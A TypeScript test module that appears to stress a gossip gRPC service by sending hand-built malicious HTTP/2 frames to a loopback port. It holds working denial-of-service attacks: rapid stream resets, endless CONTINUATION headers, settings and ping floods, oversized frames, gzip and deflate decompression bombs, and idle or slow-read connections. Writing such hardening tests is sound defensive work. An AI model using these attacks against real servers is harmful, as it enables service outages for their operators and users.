// What may come over a port that anybody can reach, by hand over TCP, since no HTTP/2 library would send
// it. An attack ends when it has sent all, or when the other side has cut it off.

import { connect, type Socket } from "node:net";
import { deflateRawSync, gzipSync } from "node:zlib";
import { FRAME, frame, PREFACE } from "../transport/frames.js";
import { framed } from "../transport/http2-caller.js";

/** An attack: sends to a port of loopback. */
type Attack = (port: number, random: () => number) => Promise<void>;

const END_STREAM = 1;
const END_HEADERS = 4;
const PRIORITY = 2;
const CONTINUATION = 9;
const NO_BYTES = Buffer.alloc(0);
const LINK = "/gossip.v1.Gossip/Link";
const SHARE_DATA = "/GossipService/ShareData";
/** How long an attacker waits for the other side to cut it off once it has sent all. */
const LINGER_MS = 300;
/** How long the other side may take nothing until the attacker gives up. */
const TAKEN_MS = 1_000;
/** Frames that are written at once. */
const BATCH = 500;

/** A header field as a literal, without Huffman coding and without a table. */
function field(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0), text(name), text(value)]);
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
  const length = [127];
  let rest = bytes.length - 127;
  for (; rest > 127; rest >>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

function headers(path: string, more: Readonly<Record<string, string>> = {}): Buffer {
  const fields = { ":method": "POST", ":scheme": "http", ":path": path, ":authority": "a" };
  const all = { ...fields, "content-type": "application/grpc", te: "trailers", ...more };
  return Buffer.concat(Object.entries(all).map(([name, value]) => field(name, value)));
}

function begin(
  streamId: number,
  path: string,
  more: Readonly<Record<string, string>> = {},
): Buffer {
  const payload = headers(path, more);
  return frame({ type: FRAME.headers, flags: END_HEADERS, streamId, payload });
}

function data(streamId: number, payload: Buffer, flags = 0): Buffer {
  return frame({ type: FRAME.data, flags, streamId, payload });
}

function settings(...pairs: readonly (readonly [id: number, value: number])[]): Buffer {
  const payload = Buffer.alloc(pairs.length * 6);
  for (const [index, [id, value]] of pairs.entries()) {
    payload.writeUInt16BE(id, index * 6);
    payload.writeUInt32BE(value, index * 6 + 2);
  }
  return frame({ type: FRAME.settings, flags: 0, streamId: 0, payload });
}

function reset(streamId: number): Buffer {
  const payload = Buffer.of(0, 0, 0, 8);
  return frame({ type: FRAME.rstStream, flags: 0, streamId, payload });
}

function ping(): Buffer {
  return frame({ type: FRAME.ping, flags: 0, streamId: 0, payload: Buffer.alloc(8) });
}

function windowUpdate(streamId: number): Buffer {
  return frame({ type: FRAME.windowUpdate, flags: 0, streamId, payload: Buffer.of(0, 0, 0, 1) });
}

/** A connection that reads, or does not. */
function open(port: number, reads = true): Promise<Socket | undefined> {
  const socket = connect({ host: "127.0.0.1", port });
  if (reads) socket.resume();
  else socket.pause();
  return new Promise((resolve) => {
    socket.on("error", () => resolve(undefined));
    socket.once("connect", () => resolve(socket));
  });
}

/** Writes, no faster than it is taken; false when the connection is over. */
function write(socket: Socket, bytes: Buffer): Promise<boolean> {
  if (socket.destroyed || !socket.writable) return Promise.resolve(false);
  return new Promise((resolve) => {
    const end = (isOn: boolean): void => {
      clearTimeout(timer);
      socket.off("close", onClose);
      resolve(isOn);
    };
    const onClose = (): void => end(false);
    // Who takes nothing any more has had enough of it.
    const timer = setTimeout(() => end(false), TAKEN_MS);
    socket.once("close", onClose);
    socket.write(bytes, (error) => end(error === undefined || error === null));
  });
}

/** Writes so many of what is made, in batches. */
async function writeMany(
  socket: Socket,
  count: number,
  make: (index: number) => Buffer,
): Promise<void> {
  for (let next = 0; next < count; next += BATCH) {
    const length = Math.min(BATCH, count - next);
    const batch = Array.from({ length }, (_, index) => make(next + index));
    if (!(await write(socket, Buffer.concat(batch)))) return;
  }
}

/** Speaks HTTP/2 over a connection of its own, waits to be cut off, and goes. */
async function speak(
  port: number,
  say: (socket: Socket) => Promise<void>,
  reads = true,
): Promise<void> {
  const socket = await open(port, reads);
  if (socket === undefined) return;
  await write(socket, Buffer.concat([Buffer.from(PREFACE), settings()]));
  await say(socket);
  await linger(socket);
}

function linger(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed) return resolve();
    const timer = setTimeout(() => socket.destroy(), LINGER_MS);
    socket.once("close", () => {
      clearTimeout(timer);
      resolve();
    });
  });
}

function randomBytes(length: number, random: () => number): Buffer {
  return Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
}

/** A field of a protobuf message that holds bytes. */
function bytesField(number: number, bytes: Buffer): Buffer {
  const length: number[] = [];
  let rest = bytes.length;
  for (; rest > 127; rest >>>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.of((number << 3) | 2, ...length, rest), bytes]);
}

/** The first frame of a link. */
function hello(address: string): Buffer {
  const versions = Buffer.of(4 << 3, 1, 5 << 3, 1);
  return framed(bytesField(1, Buffer.concat([bytesField(2, Buffer.from(address)), versions])));
}

/** A message as DATA frames, each no longer than what everyone takes. */
function inData(streamId: number, message: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < message.length; at += 16_384) {
    parts.push(data(streamId, message.subarray(at, at + 16_384)));
  }
  return Buffer.concat(parts);
}

const HUGE = 100 * 1_024 * 1_024;
const ZEROS = Buffer.alloc(16_384);

/** Each attack, by its name. */
export const ATTACKS = {
  "garbage in place of HTTP/2": async (port, random) => {
    for (let each = 0; each < 300; each += 1) {
      const socket = await open(port);
      if (socket === undefined) continue;
      const preface = each % 2 === 0 ? "" : PREFACE.slice(0, each % PREFACE.length);
      await write(socket, Buffer.concat([Buffer.from(preface), randomBytes(200, random)]));
      socket.destroy();
    }
  },
  "garbage in place of frames": async (port, random) => {
    for (let each = 0; each < 200; each += 1) {
      const socket = await open(port);
      if (socket === undefined) continue;
      await write(socket, Buffer.concat([Buffer.from(PREFACE), randomBytes(300, random)]));
      socket.destroy();
    }
  },
  "rapid resets": (port) =>
    speak(port, (socket) => {
      return writeMany(socket, 50_000, (index) => {
        const streamId = 2 * index + 1;
        return Buffer.concat([begin(streamId, SHARE_DATA), reset(streamId)]);
      });
    }),
  "rapid resets of links": (port) =>
    speak(port, (socket) => {
      return writeMany(socket, 20_000, (index) => {
        const streamId = 2 * index + 1;
        return Buffer.concat([
          begin(streamId, LINK),
          data(streamId, framed(NO_BYTES)),
          reset(streamId),
        ]);
      });
    }),
  "rapid resets of what is not served": (port) =>
    speak(port, (socket) => {
      return writeMany(socket, 50_000, (index) => {
        const streamId = 2 * index + 1;
        return Buffer.concat([begin(streamId, "/none"), reset(streamId)]);
      });
    }),
  "a flood of settings": (port) =>
    speak(port, (socket) => {
      return writeMany(socket, 50_000, (index) => settings([4, index], [1, index % 4_096]));
    }),
  "a flood of settings, not read": (port) =>
    speak(port, (socket) => writeMany(socket, 50_000, () => settings()), false),
  "a flood of pings": (port) => speak(port, (socket) => writeMany(socket, 200_000, ping)),
  "a flood of pings, not read": (port) =>
    speak(port, (socket) => writeMany(socket, 200_000, ping), false),
  "a flood of window updates": (port) =>
    speak(port, async (socket) => {
      await write(socket, begin(1, LINK));
      await writeMany(socket, 200_000, (index) => windowUpdate(index % 2));
    }),
  "a flood of priorities": (port) =>
    speak(port, (socket) => {
      return writeMany(socket, 200_000, (index) => {
        const payload = Buffer.of(0, 0, 0, 0, 16);
        return frame({ type: PRIORITY, flags: 0, streamId: 2 * index + 1, payload });
      });
    }),
  "a flood of empty frames": (port) =>
    speak(port, async (socket) => {
      await write(socket, begin(1, LINK));
      await writeMany(socket, 200_000, () => data(1, NO_BYTES));
    }),
  "a million tiny frames on a link": (port) =>
    speak(port, async (socket) => {
      await write(socket, begin(1, LINK));
      const thousand = Buffer.concat(Array.from({ length: 1_000 }, () => framed(NO_BYTES)));
      await writeMany(socket, 1_000, () => data(1, thousand));
    }),
  "a million tiny messages in a call": (port) =>
    speak(port, async (socket) => {
      await write(socket, begin(1, SHARE_DATA));
      const thousand = Buffer.concat(Array.from({ length: 1_000 }, () => framed(NO_BYTES)));
      await writeMany(socket, 1_000, () => data(1, thousand));
    }),
  "a huge message": (port) =>
    speak(port, async (socket) => {
      const prefix = Buffer.of(0, 0xff, 0xff, 0xff, 0xff);
      await write(socket, Buffer.concat([begin(1, LINK), data(1, prefix)]));
      await writeMany(socket, HUGE / ZEROS.length, () => data(1, ZEROS));
    }),
  "a frame that is longer than allowed": (port) =>
    speak(port, async (socket) => {
      const head = Buffer.of(0xff, 0xff, 0xff, FRAME.data, 0, 0, 0, 0, 1);
      await write(socket, Buffer.concat([begin(1, LINK), head]));
      await writeMany(socket, 2 ** 24 / ZEROS.length, () => ZEROS);
    }),
  "messages as large as allowed, never ended": (port) =>
    speak(port, async (socket) => {
      const size = 4 * 1_024 * 1_024;
      const prefix = Buffer.alloc(5);
      prefix.writeUInt32BE(size, 1);
      for (let streamId = 1; streamId < 100; streamId += 2) {
        await write(socket, Buffer.concat([begin(streamId, LINK), data(streamId, prefix)]));
        await writeMany(socket, size / ZEROS.length - 1, () => data(streamId, ZEROS));
      }
    }),
  "a message compressed by gRPC that is huge": (port) =>
    speak(port, async (socket) => {
      const bomb = gzipSync(Buffer.alloc(HUGE));
      for (let streamId = 1; streamId < 40; streamId += 2) {
        const start = begin(streamId, LINK, { "grpc-encoding": "gzip" });
        const message = framed(bomb, { isCompressed: true });
        if (!(await write(socket, Buffer.concat([start, inData(streamId, message)])))) return;
      }
    }),
  "compressed records that are huge": (port) =>
    speak(port, async (socket) => {
      await write(socket, Buffer.concat([begin(1, LINK), data(1, hello("127.0.0.1:9"))]));
      const bomb = deflateRawSync(Buffer.alloc(HUGE));
      for (let number = 2; number < 15; number += 1) {
        const inner = Buffer.concat([1, 2, 3, 4, 5].map((each) => bytesField(each, bomb)));
        if (!(await write(socket, inData(1, framed(bytesField(number, inner)))))) return;
      }
    }),
  "a flood of headers": (port) =>
    speak(port, (socket) => {
      return writeMany(socket, 2_000, (index) => {
        const more = Object.fromEntries(
          Array.from({ length: 100 }, (_, each) => [`x-${index}-${each}`, "v".repeat(100)]),
        );
        return begin(2 * index + 1, LINK, more);
      });
    }),
  "headers without an end": (port) =>
    speak(port, async (socket) => {
      const payload = headers(LINK);
      await write(socket, frame({ type: FRAME.headers, flags: 0, streamId: 1, payload }));
      await writeMany(socket, 20_000, (index) => {
        const part = field(`x-${index}`, "v".repeat(1_000));
        return frame({ type: CONTINUATION, flags: 0, streamId: 1, payload: part });
      });
    }),
  "connections that say nothing": async (port) => {
    const opened = await Promise.all(Array.from({ length: 500 }, () => open(port)));
    await Promise.all(opened.map((socket) => (socket === undefined ? undefined : linger(socket))));
  },
  "connections that stop in the middle": async (port) => {
    const starts = [PREFACE.slice(0, 10), PREFACE, `${PREFACE}\0\0`];
    const opened = await Promise.all(Array.from({ length: 300 }, () => open(port)));
    for (const [index, socket] of opened.entries()) {
      if (socket !== undefined) await write(socket, Buffer.from(starts[index % 3] ?? ""));
    }
    await Promise.all(opened.map((socket) => (socket === undefined ? undefined : linger(socket))));
  },
  "calls whose answers nobody reads": async (port) => {
    const say = async (socket: Socket): Promise<void> => {
      await write(socket, settings([4, 0]));
      await writeMany(socket, 100, (index) => {
        const streamId = 2 * index + 1;
        return Buffer.concat([begin(streamId, SHARE_DATA), data(streamId, NO_BYTES, END_STREAM)]);
      });
    };
    await Promise.all(Array.from({ length: 20 }, () => speak(port, say, false)));
  },
  "links of peers that there are not": async (port) => {
    const say = (from: number) => async (socket: Socket) => {
      await writeMany(socket, 100, (index) => {
        const streamId = 2 * index + 1;
        const first = hello(`127.9.${from}.${index + 1}:9`);
        return Buffer.concat([begin(streamId, LINK), data(streamId, first)]);
      });
    };
    await Promise.all(Array.from({ length: 10 }, (_, from) => speak(port, say(from))));
  },
} satisfies Record<string, Attack>;

/** The name of an attack. */
export type AttackName = keyof typeof ATTACKS;

/** All names. */
export const ATTACK_NAMES = Object.keys(ATTACKS) as AttackName[];
